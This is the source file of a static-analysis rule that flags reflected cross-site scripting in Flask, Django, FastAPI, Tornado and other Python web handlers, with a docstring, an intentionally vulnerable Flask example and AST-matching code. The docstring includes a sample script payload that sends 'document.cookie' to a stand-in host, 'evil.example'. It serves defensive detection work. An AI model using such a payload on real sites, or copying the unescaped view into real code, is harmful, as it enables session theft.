"""## What it does
Finds HTML responses built from what the client sent, without escaping:
a Flask, Quart, Bottle or Klein view (or one whose arguments webargs parses,
or a decorated handler that takes the request, as WebOb's and Pyramid's do)
that returns a string made with an f-string, ``%``, ``.format`` or ``+`` from
``request.args``, ``request.form``, a route parameter or ``req.params``
(also a controller class's ``get``/``post`` methods reading ``self.request``);
Django's ``HttpResponse(...)``, WebOb's and Pyramid's ``Response(...)``
(and ``resp.text = ...``), Starlette's ``HTMLResponse(...)``, Flask's
``make_response(...)``, Tornado's ``self.write(...)`` and aiohttp's
``web.Response(..., content_type="text/html")`` given such a string, and
what a FastAPI route declared ``response_class=HTMLResponse`` returns from
its query and path parameters.
Responses declared as plain text or JSON (``mimetype="text/plain"``,
``jsonify``, FastAPI's default JSON) and values passed through ``escape``,
``html.escape``, ``markupsafe.escape`` or ``bleach.clean`` are fine.

## Why is this bad?
The browser reads the response as HTML, so a value such as
``<script>fetch('//evil.example/?c='+document.cookie)</script>`` in a link's
query string runs as this site's script for whoever follows the link:
reflected cross-site scripting.  It reads the page, the session and
anything the user can do there.

## Example
```python
from flask import Flask, request

app = Flask(__name__)

@app.route("/hello")
def hello():
    return "<h1>Hello, %s!</h1>" % request.args.get("name", "World")
```

## Use instead
```python
from flask import Flask, render_template_string, request
from markupsafe import escape

app = Flask(__name__)

@app.route("/hello")
def hello():
    return f"<h1>Hello, {escape(request.args.get('name', 'World'))}!</h1>"
```
Render templates with autoescaping (``render_template``), or escape every
value that comes from the request.

## References
- [CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')](https://cwe.mitre.org/data/definitions/79.html)
- [Flask: HTML escaping](https://flask.palletsprojects.com/en/stable/quickstart/#html-escaping)
"""

from __future__ import annotations

import ast
import re
from typing import Iterator, Optional

from ...languages.python import Call, PythonView
from ...model import Hit
from ..registry import rule
from ._web_helpers import (built_string, client_input, described_input, is_request_handler, number_fields,
                           route_parameters)

# Responses whose body is HTML unless they say otherwise: (short name, the keywords that hold the body).
HTML_RESPONSES = {"HttpResponse": ("content",), "Response": ("body", "text", "response"), "HTMLResponse": ("content",),
                  "make_response": (), "HTTPOk": ("body", "text")}
NOT_HTML_TYPE = re.compile(r"text/plain|json|xml|csv|octet-stream|javascript|image/", re.IGNORECASE)
PLAIN_BY_DEFAULT = ("aiohttp", "starlette.responses.Response", "fastapi.Response", "falcon")
JSON_FRAMEWORKS = ("fastapi", "falcon", "ninja", "rest_framework")
ARITHMETIC = (ast.Mult, ast.Sub, ast.Div, ast.FloorDiv, ast.Pow)


@rule(
    id="DSP065",
    symbol="reflected-xss",
    title="HTML response built from the request without escaping (reflected XSS)",
    severity="high",
    cwe=79,
    languages=("python",),
    equivalent="none (Semgrep python.flask.security.audit.directly-returned-format-string)",
    message="returns HTML built from what the client sent, unescaped: a crafted link runs script on this site; "
            "escape the value or render a template",
    use_instead="f\"<h1>Hello, {escape(name)}</h1>\" (markupsafe.escape) or render_template(...)",
    name_triggers=("args", "form", "values", "params", "get", "post", "query", "match_info", "get_argument",
                   "use_args", "use_kwargs", "arguments", "route", "matchdict", "cookies", "environ", "path",
                   "expose", "wfile"),
)
def check(code: PythonView) -> Iterator[Hit]:
    parameters = route_parameters(code)
    json_app = any(code.aliases.get(name, name).split(".")[0] in JSON_FRAMEWORKS for name in code.aliases)
    for call in code.calls:
        body = _response_body(code, call)
        if body is not None:
            found = _unescaped_input(code, body, parameters)
            if found:
                yield Hit(call.line, code.column(call.node), f"`{call.written}(...)` answers with HTML built from "
                          f"{found} without escaping: a crafted link runs script on this site (reflected XSS); "
                          "escape it (`markupsafe.escape`) or render a template")
        elif call.short == "write" and isinstance(call.node.func, ast.Attribute) and \
                getattr(call.node.func.value, "id", "") == "self" and call.node.args:
            found = _unescaped_input(code, call.node.args[0], parameters)  # Tornado's RequestHandler.write
            if found:
                yield Hit(call.line, code.column(call.node), f"`self.write(...)` answers with HTML built from {found} "
                          "without escaping (reflected XSS); escape it with `tornado.escape.xhtml_escape`")
    yield from _returned_strings(code, parameters, html_routes_only=json_app)
    yield from _body_assignments(code, parameters)
    yield from _wsgi_bodies(code, parameters)


def _wsgi_bodies(code: PythonView, parameters: frozenset[str]) -> Iterator[Hit]:
    """A WSGI application (``def app(environ, start_response)``) that declares ``text/html`` and returns or
    yields a body built from the environ; a ``BaseHTTPRequestHandler`` that sends ``text/html`` and writes
    such a body to ``self.wfile``."""
    for function in code.nodes_of(ast.FunctionDef, ast.AsyncFunctionDef):
        names = [a.arg for a in function.args.args]  # type: ignore[attr-defined]
        wsgi = len(names) >= 2 and names[-1] == "start_response"
        handler = bool(names) and names[0] == "self" and function.name.startswith("do_")  # type: ignore[attr-defined]
        if not (wsgi or handler) or not HTML_TYPE.search(code.text_of(function, 20000)):
            continue
        for node in ast.walk(function):
            bodies: list[ast.AST] = []
            if wsgi and isinstance(node, (ast.Return, ast.Yield)) and node.value is not None:
                value = node.value
                bodies = list(value.elts) if isinstance(value, (ast.List, ast.Tuple)) else [value]
            elif handler and isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                    node.func.attr == "write" and "wfile" in code.text_of(node.func.value, 40) and node.args:
                bodies = [node.args[0]]
            for body in bodies:
                if isinstance(body, ast.Call) and isinstance(body.func, ast.Attribute) and body.func.attr == "encode":
                    body = body.func.value  # ``("<p>%s</p>" % name).encode()``
                found = _unescaped_input(code, body, parameters)
                if found:
                    yield Hit(getattr(node, "lineno", 1), code.column(node), f"the handler answers with HTML (text/html) built from "
                              f"{found} without escaping: a crafted link runs script on this site (reflected XSS); "
                              "escape it with `html.escape`")
                    break


HTML_TYPE = re.compile(r"text/html", re.IGNORECASE)


def _response_body(code: PythonView, call: Call) -> Optional[ast.AST]:
    keywords = HTML_RESPONSES.get(call.short)
    others = [*call.node.args[1:], *(keyword.value for keyword in call.node.keywords)]
    if keywords is None:
        return None
    if any(part in call.name for part in PLAIN_BY_DEFAULT) and \
            not any(HTML_TYPE.search(code.text_of(value, 200)) for value in others):
        return None  # (aiohttp's ``web.Response`` is text/plain unless ``content_type="text/html"`` says otherwise)
    if any(NOT_HTML_TYPE.search(code.text_of(value, 200)) for value in others):
        return None  # mimetype="text/plain", {"Content-Type": "application/json"}, ...
    if call.node.args and not isinstance(call.node.args[0], ast.Starred):
        return call.node.args[0]
    return next((call.keyword(name) for name in keywords if call.keyword(name) is not None), None)


HTTP_VERBS = frozenset({"get", "post", "put", "patch", "delete"})


def _returned_strings(code: PythonView, parameters: frozenset[str], html_routes_only: bool = False) -> Iterator[Hit]:
    """Strings a view returns.  In a JSON framework (FastAPI, Falcon, Ninja) a returned string is JSON, except
    from a route declared ``response_class=HTMLResponse``."""
    controller_methods = {id(statement) for node in code.nodes_of(ast.ClassDef)
                          for statement in getattr(node, "body", [])
                          if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef))
                          and statement.name in HTTP_VERBS}
    for function in code.nodes_of(ast.FunctionDef, ast.AsyncFunctionDef):
        if not is_request_handler(function) and id(function) not in controller_methods:
            continue  # (a controller's get/post methods: what they return is the response, as in WebOb's examples)
        if html_routes_only and not _declares_html(code, function):
            continue
        for node in ast.walk(function):
            if isinstance(node, ast.Return) and node.value is not None:
                value = node.value.elts[0] if isinstance(node.value, ast.Tuple) and node.value.elts else node.value
                found = _unescaped_input(code, value, parameters)
                if found:
                    yield Hit(node.lineno, code.column(node), f"the view returns HTML built from {found} without "
                              "escaping (a returned string is a text/html response): a crafted link runs script on "
                              "this site (reflected XSS); escape it (`markupsafe.escape`) or render a template")


def _declares_html(code: PythonView, function: ast.AST) -> bool:
    """A route whose decorator says its response is HTML: ``@app.get("/", response_class=HTMLResponse)``."""
    for decorator in getattr(function, "decorator_list", []):
        for keyword in getattr(decorator, "keywords", []):
            if keyword.arg == "response_class" and "HTML" in code.text_of(keyword.value, 80):
                return True
    return False


def _body_assignments(code: PythonView, parameters: frozenset[str]) -> Iterator[Hit]:
    """WebOb's and Pyramid's ``resp.text = ...`` / ``resp.body = ...`` (Responder's ``resp.text`` is plain text)."""
    if "webob" not in code.source and "pyramid" not in code.source:
        return
    for node in code.nodes_of(ast.Assign):
        for target in node.targets:  # type: ignore[attr-defined]
            if isinstance(target, ast.Attribute) and target.attr in ("text", "body", "unicode_body") and \
                    getattr(target.value, "id", "") in ("resp", "response", "res"):
                found = _unescaped_input(code, node.value, parameters)  # type: ignore[attr-defined]
                if found:
                    yield Hit(node.lineno, code.column(node), f"`{target.value.id}.{target.attr}` is HTML built from "  # type: ignore[attr-defined]
                              f"{found} without escaping (reflected XSS); escape it first")


def _unescaped_input(code: PythonView, node: ast.AST, parameters: frozenset[str]) -> Optional[str]:
    """How a message names the client input a built string carries unescaped, or ``None``."""
    if isinstance(node, ast.Name):
        values = code.assigned_where_read(node)
        node = values[0] if len(values) == 1 else node
    built = built_string(code, node)
    if built is None:
        return None
    numbers = number_fields(code)
    for piece in built.dynamic:
        if isinstance(piece, ast.Subscript) and isinstance(piece.slice, ast.Constant) and piece.slice.value in numbers:
            continue  # ``args["page"]`` parsed by ``fields.Int()``: a number
        if isinstance(piece, ast.Call) and getattr(piece.func, "id", "") in ("int", "float", "len", "bool"):
            continue
        if isinstance(piece, ast.BinOp) and isinstance(piece.op, ARITHMETIC):
            continue  # ``args["foo"] * 2``: a number
        origin = client_input(code, piece, parameters)
        if origin is not None:
            return described_input(code, origin)
    return None
